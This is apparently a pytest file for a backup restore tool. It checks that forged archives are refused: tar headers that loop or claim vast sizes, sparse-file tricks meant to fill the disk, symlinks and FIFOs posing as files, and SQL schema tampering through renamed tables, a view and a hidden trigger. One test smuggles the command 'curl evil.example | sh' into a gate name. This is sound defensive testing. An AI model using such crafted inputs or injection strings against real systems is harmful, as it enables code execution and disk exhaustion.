"""A backup that somebody altered on purpose: nothing in it is waited for, grows, runs, or ends in an error of Python."""

from __future__ import annotations

import io
import json
import os
import shlex
import shutil
import tarfile
from collections.abc import Callable
from hashlib import sha256
from pathlib import Path

import pytest

from sds.host.backup import BackupManifest
from sds.host.restoring import restore
from sds.kernel.errors import StoreError, UsageError
from tests.host.test_backup import GATE, backup, forged, made, put_back


def header(name: str, size: int = 0, **pax: str) -> bytes:
    info = tarfile.TarInfo(name)
    info.size, info.pax_headers = size, {key.replace("_", "."): value for key, value in pax.items()}
    return info.tobuf(tarfile.PAX_FORMAT if pax else tarfile.GNU_FORMAT)


def extended(record: bytes) -> bytes:
    """Return an extended header that consists of one record."""
    info = tarfile.TarInfo("x")
    info.type, info.size = tarfile.XHDTYPE, len(record)
    return info.tobuf(tarfile.USTAR_FORMAT) + record.ljust(-(-len(record) // 512) * 512, b"\0")


@pytest.mark.parametrize(
    "data",
    [
        header("x") + header("y", -512),
        extended(b"9 a=bcde\n") * 2_000 + header("manifest.json"),
        extended(b"9" * 5_000 + b" a=b\n") + header("manifest.json"),
        header("manifest.json", 1 << 40),
        header("manifest.json", size=0, GNU_sparse_map="x", GNU_sparse_size="1"),
    ],
    ids=["in circles", "nested", "a number of 5,000 digits", "longer than the file", "a map that is none"],
)
def test_an_archive_that_was_altered_is_no_backup(tmp_path: Path, data: bytes) -> None:
    source = tmp_path / "copy.tar"
    source.write_bytes(data)
    with pytest.raises(UsageError, match="is not a"):
        restore(source, tmp_path / GATE, gate=GATE)
    assert not (tmp_path / GATE).exists()


def test_a_file_that_is_longer_than_its_archive_is_not_unpacked(tmp_path: Path) -> None:
    """A few bytes could fill the disk."""
    bed, to, size = made(tmp_path), tmp_path / "copy", 1 << 20
    backup(bed, to, with_key=False)
    data = json.loads((to / "manifest.json").read_bytes()) | {"sha256": ""}
    data["files"] = {"decisions.db": {"bytes": size, "sha256": sha256(bytes(size)).hexdigest()}}
    manifest = BackupManifest.model_validate_json(json.dumps(data)).summed.model_dump_json().encode()
    with tarfile.open(tmp_path / "copy.tar", "w") as archive:
        plain, sparse = tarfile.TarInfo("manifest.json"), tarfile.TarInfo("decisions.db")
        plain.size = len(manifest)
        sparse.pax_headers = {"GNU.sparse.map": "0,0", "GNU.sparse.size": f"{size}"}
        archive.addfile(plain, io.BytesIO(manifest))
        archive.addfile(sparse)
    shutil.rmtree(bed.own)
    with pytest.raises(UsageError, match="is not a whole backup"):
        put_back(bed, tmp_path / "copy.tar")


@pytest.mark.parametrize("make", [os.mkfifo, lambda path: path.symlink_to("/dev/zero"), Path.mkdir])
@pytest.mark.parametrize("name", ["manifest.json", "decisions.db", ""])
def test_what_is_no_file_is_no_part_of_a_backup(tmp_path: Path, make: Callable[[Path], object], name: str) -> None:
    bed, to = made(tmp_path), tmp_path / "copy"
    backup(bed, to)
    if name:
        (to / name).unlink()
    else:
        shutil.rmtree(to)
    make(to / name)
    with pytest.raises(UsageError, match="is not a whole backup"):
        put_back(bed, to)


def test_a_record_in_whose_schema_somebody_wrote_is_refused_before_any_of_it_runs(tmp_path: Path) -> None:
    bed, to = made(tmp_path), tmp_path / "copy"
    backup(bed, to)
    forged(to, "ALTER TABLE meta RENAME TO formerly")
    forged(to, "CREATE VIEW meta AS SELECT 'schema_version' AS key, abs(-9223372036854775807 - 1) AS value")
    shutil.rmtree(bed.own)
    with pytest.raises(StoreError, match="the record is damaged: schema: `formerly` is not this program's"):
        put_back(bed, to)
    assert not bed.own.exists()


def test_a_trigger_does_not_hide_behind_an_index_of_its_name(tmp_path: Path) -> None:
    bed, to = made(tmp_path), tmp_path / "copy"
    backup(bed, to)
    forged(to, "CREATE INDEX later ON meta (value)")
    forged(to, "CREATE TRIGGER later AFTER INSERT ON ledger BEGIN DELETE FROM meta; END")
    with pytest.raises(StoreError, match="the record is damaged: schema: `later` is not this program's"):
        put_back(bed, to)


def test_no_command_that_is_offered_holds_one_of_somebody_elses(tmp_path: Path) -> None:
    bed, to, gate = made(tmp_path), tmp_path / "copy", "x; curl evil.example | sh #"
    backup(bed, to)
    data = json.loads((to / "manifest.json").read_bytes()) | {"sha256": "", "gate": gate}
    (to / "manifest.json").write_text(BackupManifest.model_validate_json(json.dumps(data)).summed.model_dump_json())
    with pytest.raises(UsageError, match="is a backup of gate") as refused:
        put_back(bed, to)
    assert ["sds", "restore", "--gate", gate, "--from", str(to)] == shlex.split(refused.value.hint)
